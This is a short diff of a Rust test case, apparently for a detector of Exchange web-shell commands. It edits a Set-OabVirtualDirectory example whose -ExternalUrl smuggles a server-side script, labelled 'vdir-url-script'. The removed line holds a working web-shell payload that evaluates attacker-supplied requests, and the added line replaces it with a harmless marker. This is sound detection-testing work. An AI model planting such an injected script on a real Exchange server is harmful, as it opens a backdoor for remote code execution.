@@ -488,7 +488,7 @@ mod tests {
             ),
             (
                 "Set-OabVirtualDirectory",
-                "-ExternalUrl 'http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"k\"],\"unsafe\");}</script>' -Identity 'OAB (Default Web Site)'",
+                "-ExternalUrl 'http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){Response.Write(\"exhunt-test-k\");}</script>' -Identity 'OAB (Default Web Site)'",
                 Some("vdir-url-script"),
             ),
             (
